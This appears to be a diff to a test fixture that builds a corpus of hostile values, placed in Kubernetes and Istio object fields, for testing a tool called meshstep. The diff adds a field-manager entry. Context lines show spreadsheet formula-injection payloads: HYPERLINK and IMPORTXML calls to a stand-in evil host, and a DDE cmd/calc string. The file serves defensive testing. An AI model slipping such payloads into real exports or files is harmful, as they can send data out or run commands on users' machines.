@@ -1,7 +1,8 @@
 """A corpus of hostile values: the demo cluster with, for each payload class, a namespace `hostile-<class>` whose
 objects carry that payload in every field meshstep shows (namespace revision label and annotation, the pods'
 labels, annotations, sidecar.istio.io/status revision, container args and env, a VirtualService's hosts, header
-match and destination host, a DestinationRule's host) — and, for what people type, an actor, reason and plan name.
+match and destination host, a DestinationRule's host, the field manager that owns the namespace's revision label) —
+and, for what people type, an actor, reason and plan name.
 
 Every value names its field and class (`<class>.<field>`, the tag), so that a test can tell which fields a surface
 showed, and what became of each. tests/app/test_hostile_content.py runs it through every command and page."""
@@ -43,7 +44,7 @@ FORMULAS = ('=HYPERLINK("http://' + EVIL + '/{t}","audit")', "+1+cmd|' /C calc'!
             '\r=IMPORTXML("http://' + EVIL + '/{t}","//a")')
 # Where each payload is placed (the field names used in tags).
 FIELDS = ("ns-rev", "ns-annotation", "pod-rev", "pod-label", "pod-annotation", "status-rev", "args", "env",
-          "vs-host", "vs-header", "vs-dest", "dr-host", "actor", "reason")
+          "vs-host", "vs-header", "vs-dest", "dr-host", "manager", "actor", "reason")
 TYPED = ("actor", "reason")  # what a user types (`flags set --actor --reason`), not the snapshot's
 TEMPLATE_NS = "shop"
 ROUTED = "frontend"  # the service of the corpus pod, whose mesh traffic no VirtualService of the template routes
@@ -83,6 +84,10 @@ def _objects(cls: str, demo: list[dict[str, Any]]) -> list[dict[str, Any]]:
             meta["name"] = ns
             meta["labels"] |= {"istio.io/rev": value(cls, "ns-rev"), "kubernetes.io/metadata.name": ns}
             meta["annotations"] = {"owner": value(cls, "ns-annotation")}
+            # as `kubectl get -o yaml --show-managed-fields` shows it: a gate names who owns what a stage changes
+            meta["managedFields"] = [{"apiVersion": "v1", "fieldsType": "FieldsV1", "manager": value(cls, "manager"),
+                                      "operation": "Update", "time": "2026-02-05T13:58:20Z",
+                                      "fieldsV1": {"f:metadata": {"f:labels": {"f:istio.io/rev": {}}}}}]
         else:
             meta["namespace"] = ns
         if obj["kind"] == "Pod":
